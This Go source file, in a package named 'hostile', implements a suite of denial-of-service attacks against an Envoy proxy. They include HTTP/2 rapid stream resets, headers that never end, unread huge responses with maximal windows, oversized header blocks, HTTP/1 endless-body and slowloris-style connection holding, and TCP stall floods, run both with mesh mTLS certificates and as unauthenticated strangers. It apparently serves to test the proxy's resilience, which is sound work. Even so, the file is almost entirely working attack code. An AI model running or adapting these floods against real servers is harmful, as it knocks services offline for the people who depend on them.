package hostile

import (
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// An envoyAttack runs until its context ends.
type envoyAttack struct {
	name string
	run  func(ctx context.Context, v *victim)
}

func envoyAttacks() []envoyAttack {
	plain := func(v *victim) string { return v.http }
	h2 := func(v *victim) string { return v.http2 }
	tcp := func(v *victim) string { return v.tcp }
	return []envoyAttack{
		{"uploads that the application does not read", asMemberOf(h2, 20, "h2", uploads)},
		{"more uploads that the application does not read", asMemberOf(h2, 60, "h2", uploads)},
		{"answers that are not read", asMemberOf(h2, 20, "h2", unread(hugeAnswers(largestWindow)))},
		{"more answers that are not read", asMemberOf(h2, 60, "h2", unread(hugeAnswers(largestWindow)))},
		{"answers without a window", asMemberOf(h2, 40, "h2", frames(hugeAnswers(0)))},
		{"large headers of requests that wait", asMemberOf(h2, 20, "h2", frames(largeHeaders))},
		{"headers that never end", asMemberOf(h2, 40, "h2", frames(settings(endlessHeaders)))},
		{"frames that ask nothing", asMemberOf(h2, 40, "h2", frames(settings(idleFrames)))},
		{"streams that are reset", asMemberOf(h2, 40, "h2", frames(settings(rapidReset)))},
		{"HTTP/1 uploads that the application does not read", asMemberOf(plain, 800, "http/1.1", requestHTTP1("POST /wait"))},
		{"HTTP/1 answers that are not read", asMemberOf(plain, 800, "http/1.1", requestHTTP1("GET /endless"))},
		{"HTTP/1 answers that strangers do not read", asStrangerTo(plain, 800, requestHTTP1("GET /endless"))},
		{"TCP answers that are not read", asMemberOf(tcp, 800, "", sendOnce(askBytes))},
		{"TCP that the application does not read", asMemberOf(tcp, 800, "", sendForEver(askStall))},
		{"TCP answers that strangers do not read", asStrangerTo(tcp, 800, sendOnce(askBytes))},
		{"silent connections of members", asMemberOf(plain, 1500, "http/1.1", hold)},
		{"silent connections of strangers", asStrangerTo(plain, 1500, hold)},
	}
}

// hostileRate is how many connections an attacker opens each second after the first ones.
const hostileRate = 50

// dialer makes a connection to a victim.
type dialer func(ctx context.Context, v *victim) (net.Conn, error)

// memberWith connects with the certificate of a member of the mesh, and offers that protocol, too, if it is not "".
func memberWith(alpn, at string) dialer {
	return func(ctx context.Context, v *victim) (net.Conn, error) {
		d := tls.Dialer{Config: v.tls()}
		if alpn != "" {
			d.Config = v.tls(alpn)
		}
		return d.DialContext(ctx, "tcp", at)
	}
}

// stranger connects without mTLS.
func stranger(at string) dialer {
	return func(ctx context.Context, _ *victim) (net.Conn, error) {
		return (&net.Dialer{}).DialContext(ctx, "tcp", at)
	}
}

// asMemberOf makes so many connections as a member of the mesh, and holds them.
func asMemberOf(at func(*victim) string, connections int, alpn string, do func(context.Context, net.Conn)) func(context.Context, *victim) {
	return func(ctx context.Context, v *victim) { connect(ctx, v, connections, memberWith(alpn, at(v)), do) }
}

func asStrangerTo(at func(*victim) string, connections int, do func(context.Context, net.Conn)) func(context.Context, *victim) {
	return func(ctx context.Context, v *victim) { connect(ctx, v, connections, stranger(at(v)), do) }
}

// connect keeps so many connections open, and does something on each.
func connect(ctx context.Context, v *victim, connections int, dial dialer, do func(context.Context, net.Conn)) {
	var held pool
	defer held.close()
	var running sync.WaitGroup
	defer running.Wait()
	places := make(chan struct{}, connections)
	repeat(ctx, connections, hostileRate, 8, func(int) {
		select {
		case places <- struct{}{}:
		default:
			return // all are there
		}
		dialing, cancel := context.WithTimeout(ctx, 5*time.Second)
		defer cancel()
		c, err := dial(dialing, v)
		if err != nil {
			<-places
			return
		}
		endAtOnce(c)
		held.add(c)
		running.Go(func() {
			defer func() { _ = c.Close(); <-places }()
			do(ctx, c)
		})
	})
	held.close()
}

// endAtOnce has the end of a connection be a reset. Otherwise what Envoy does not read keeps it open for minutes, and the next attack has fewer
// places than the one before.
func endAtOnce(c net.Conn) {
	if t, ok := c.(*tls.Conn); ok {
		c = t.NetConn()
	}
	_ = c.(*net.TCPConn).SetLinger(0) // it may have ended
}

func hold(ctx context.Context, _ net.Conn) { <-ctx.Done() }

// streams is how many an attacker opens on one connection, or as many as it may.
const streams = 200

// zeros never ends.
type zeros struct{}

func (zeros) Read(p []byte) (int, error) { clear(p); return len(p), nil }

// clientConn speaks HTTP/2 on a connection as a good client does.
func clientConn(ctx context.Context, c net.Conn) (*http.ClientConn, error) {
	var protocols http.Protocols
	protocols.SetUnencryptedHTTP2(true) // TLS is done
	t := &http.Transport{Protocols: &protocols, DialContext: func(context.Context, string, string) (net.Conn, error) { return c, nil }}
	return t.NewClientConn(ctx, "http", "victim:80")
}

// uploads sends as much as it may on each stream.
func uploads(ctx context.Context, c net.Conn) {
	conn, err := clientConn(ctx, c)
	if err != nil {
		return
	}
	var running sync.WaitGroup
	for range streams {
		running.Go(func() {
			for ctx.Err() == nil {
				r, _ := http.NewRequestWithContext(ctx, http.MethodPost, "http://victim/wait", zeros{})
				answer, err := conn.RoundTrip(r)
				if err != nil {
					return
				}
				_ = answer.Body.Close()
			}
		})
	}
	running.Wait()
	_ = conn.Close()
}

// frames speaks HTTP/2 on a connection. What it receives is dropped, but with unread, and then it stays in the way.
func frames(do func(context.Context, *http2.Framer) error) func(context.Context, net.Conn) {
	return speak(do, true)
}

func unread(do func(context.Context, *http2.Framer) error) func(context.Context, net.Conn) {
	return speak(do, false)
}

func speak(do func(context.Context, *http2.Framer) error, read bool) func(context.Context, net.Conn) {
	return func(ctx context.Context, c net.Conn) {
		var reading sync.WaitGroup
		defer reading.Wait()
		defer func() { _ = c.Close() }()
		if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
			return
		}
		if read {
			reading.Go(func() { _, _ = io.Copy(io.Discard, c) })
		}
		if do(ctx, http2.NewFramer(c, c)) == nil {
			<-ctx.Done()
		}
	}
}

// envoyRequest encodes the headers of a request, and more.
func envoyRequest(path string, more ...hpack.HeaderField) []byte {
	var block bytes.Buffer
	e := hpack.NewEncoder(&block)
	e.SetMaxDynamicTableSizeLimit(0)
	for _, h := range append([]hpack.HeaderField{
		{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "https"}, {Name: ":authority", Value: "victim"}, {Name: ":path", Value: path},
	}, more...) {
		_ = e.WriteField(h) // to a buffer
	}
	return block.Bytes()
}

const largestWindow = 1<<31 - 1

// hugeAnswers asks for answers without end, with windows of that size on each stream, and the largest on the connection.
func hugeAnswers(window uint32) func(context.Context, *http2.Framer) error {
	return func(_ context.Context, f *http2.Framer) error {
		if err := f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: window}); err != nil {
			return err
		}
		if err := f.WriteWindowUpdate(0, largestWindow-65535); err != nil {
			return err
		}
		for n := range uint32(streams) {
			if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1 + 2*n, BlockFragment: envoyRequest("/endless"), EndHeaders: true, EndStream: true}); err != nil {
				return err
			}
		}
		return nil
	}
}

// largeHeaders has as many requests with headers as large as they may be.
func largeHeaders(_ context.Context, f *http2.Framer) error {
	if err := f.WriteSettings(); err != nil {
		return err
	}
	var more []hpack.HeaderField
	for n := range 60 {
		more = append(more, hpack.HeaderField{Name: fmt.Sprint("x-", n), Value: strings.Repeat("v", 4000), Sensitive: true})
	}
	for n := range uint32(streams) {
		rest := envoyRequest("/wait", more...)
		size := 16 << 10
		err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1 + 2*n, BlockFragment: rest[:size], EndStream: true})
		for rest = rest[size:]; err == nil && len(rest) > 0; rest = rest[size:] {
			size = min(len(rest), 16<<10)
			err = f.WriteContinuation(1+2*n, size == len(rest), rest[:size])
		}
		if err != nil {
			return err
		}
	}
	return nil
}

// settings sends the settings with which HTTP/2 begins, and then attacks.
func settings(attack func(context.Context, *http2.Framer) error) func(context.Context, *http2.Framer) error {
	return func(ctx context.Context, f *http2.Framer) error {
		if err := f.WriteSettings(); err != nil {
			return err
		}
		return attack(ctx, f)
	}
}

// requestHTTP1 makes a request of HTTP/1, with a body without end if it is a POST. The answer is not read.
func requestHTTP1(line string) func(context.Context, net.Conn) {
	return func(ctx context.Context, c net.Conn) {
		head := line + " HTTP/1.1\r\nHost: victim\r\n"
		post := strings.HasPrefix(line, http.MethodPost)
		if post {
			head += "Content-Length: 1000000000000\r\n"
		}
		if _, err := io.WriteString(c, head+"\r\n"); err != nil {
			return
		}
		if post {
			_, _ = io.Copy(c, zeros{})
		}
		<-ctx.Done()
	}
}

// sendOnce sends a byte, and reads nothing.
func sendOnce(b byte) func(context.Context, net.Conn) {
	return func(ctx context.Context, c net.Conn) {
		_, _ = c.Write([]byte{b})
		<-ctx.Done()
	}
}

// sendForEver sends a byte, and then more without end.
func sendForEver(b byte) func(context.Context, net.Conn) {
	return func(ctx context.Context, c net.Conn) {
		_, _ = c.Write([]byte{b})
		_, _ = io.Copy(c, zeros{})
		<-ctx.Done()
	}
}
